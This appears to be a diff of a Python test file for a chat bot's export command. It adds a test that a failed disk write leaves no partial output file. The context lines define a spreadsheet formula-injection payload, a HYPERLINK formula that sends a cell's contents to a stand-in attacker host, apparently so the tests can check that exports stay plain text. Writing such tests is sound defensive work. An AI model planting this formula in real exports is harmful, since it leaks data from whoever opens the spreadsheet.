@@ -13,7 +13,7 @@ from bot.bridge import Bridge
 from bot.console.exporting import cell
 from bot.model import Heard, LineName, Said, Ts
 from bot.store import Store
-from tests.helpers import ANA, THREAD, TestClock, chat, house, opened
+from tests.helpers import ANA, THREAD, TestClock, chat, house, no_file_beyond, opened
 
 EVIL = '=HYPERLINK("https://evil.example/"&A1)'
 
@@ -70,3 +70,12 @@ def test_whatever_a_spreadsheet_may_reckon_with_is_text(text: str) -> None:
 
 async def test_what_goes_with_everything_does_not_go_with_a_person(here: Path) -> None:
     assert main(["export", "+15035550123", "--since", "7d"]) == 2
+
+
+async def test_of_what_the_disk_does_not_take_whole_nothing_stays(
+    here: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with no_file_beyond(0):
+        code = main(["export", "joe@example.com", str(here / "out")])
+    assert (code, "The disk did not take it" in capsys.readouterr().err) == (1, True)
+    assert not (here / "out").exists()
